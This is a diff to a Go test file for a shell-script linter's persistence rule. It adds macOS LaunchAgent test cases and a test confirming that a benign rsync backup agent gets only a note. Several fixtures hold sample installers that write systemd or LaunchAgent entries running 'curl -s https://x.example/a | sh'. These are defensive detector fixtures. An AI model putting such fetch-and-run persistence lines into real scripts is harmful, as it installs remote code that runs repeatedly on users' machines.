@@ -19,6 +19,9 @@ var codeCases = []lintCase{
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nrepo=$1\nu=$(cat <<U\n[Service]\nExecStart=/usr/bin/restic -r ${repo} backup\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "note", 8},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\nu=$(cat <<U\n[Service]\nExecStart=/bin/sh -c 'curl -s https://x.example/a | sh'\nU\n)\nprintf '%s\\n' \"$u\" > \"$d/b.service\"\n", "warning", 7},
 	{"install.sh", "persistence", "d=\"${XDG_CONFIG_HOME:-$HOME/.config}/systemd/user\"\ncp \"$1\" \"$d/b.service\"\n", "warning", 2},
+	{"install.sh", "persistence", "p=\"$HOME/Library/LaunchAgents/b.plist\"\ncat > \"$p\" <<P\n<?xml version=\"1.0\"?>\n<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://x.example/a | sh</string></array></dict></plist>\nP\nlaunchctl load \"$p\"\n", "warning", 6},
+	{"install.sh", "persistence", "p=\"$HOME/Library/LaunchAgents/b.plist\"\ncp \"$1\" \"$p\"\nlaunchctl load \"$p\"\n", "warning", 3},
+	{"install.sh", "persistence", "launchctl load ~/Library/LaunchAgents/x.plist\n", "warning", 1},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=${2:?}\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "note", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(cat notes.dat)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c '$cmd'\nU\n", "warning", 3},
 	{"install.sh", "persistence", "d=\"$HOME/.config/systemd/user\"\ncmd=$(curl -s https://x.example/c)\ncat > \"$d/dev.service\" <<U\n[Service]\nExecStart=/bin/sh -c \"$cmd\"\nU\n", "warning", 3},
@@ -233,4 +236,17 @@ func TestCodeLayerExcerpt(t *testing.T) {
 		}
 	}
 	t.Errorf("no reverse-shell in %+v", fs)
+}
+
+// TestPlainLaunchAgent: a LaunchAgent plist written whole (its XML
+// declaration and Apple's DTD address included) that runs only a program,
+// then loaded with launchctl, is a note on every line: neither the DTD's
+// address nor the load makes it a warning.
+func TestPlainLaunchAgent(t *testing.T) {
+	src := "dest=${1:?backup folder}\nplist=\"$HOME/Library/LaunchAgents/local.backup.documents.plist\"\nmkdir -p \"$(dirname \"$plist\")\"\ncat > \"$plist\" <<PLIST\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n  <key>Label</key><string>local.backup.documents</string>\n  <key>ProgramArguments</key>\n  <array>\n    <string>/usr/bin/rsync</string><string>-a</string><string>--delete</string>\n    <string>$HOME/Documents/</string><string>$dest/Documents/</string>\n  </array>\n  <key>StartCalendarInterval</key><dict><key>Hour</key><integer>2</integer></dict>\n</dict>\n</plist>\nPLIST\nlaunchctl load \"$plist\"\necho \"installed $plist\"\n"
+	for _, f := range Analyze("scripts/install-agent.sh", []byte(src)) {
+		if f.Rule == "persistence" && f.Severity != "note" {
+			t.Errorf("%s line %d: %s, want note", f.Rule, f.Line, f.Severity)
+		}
+	}
 }
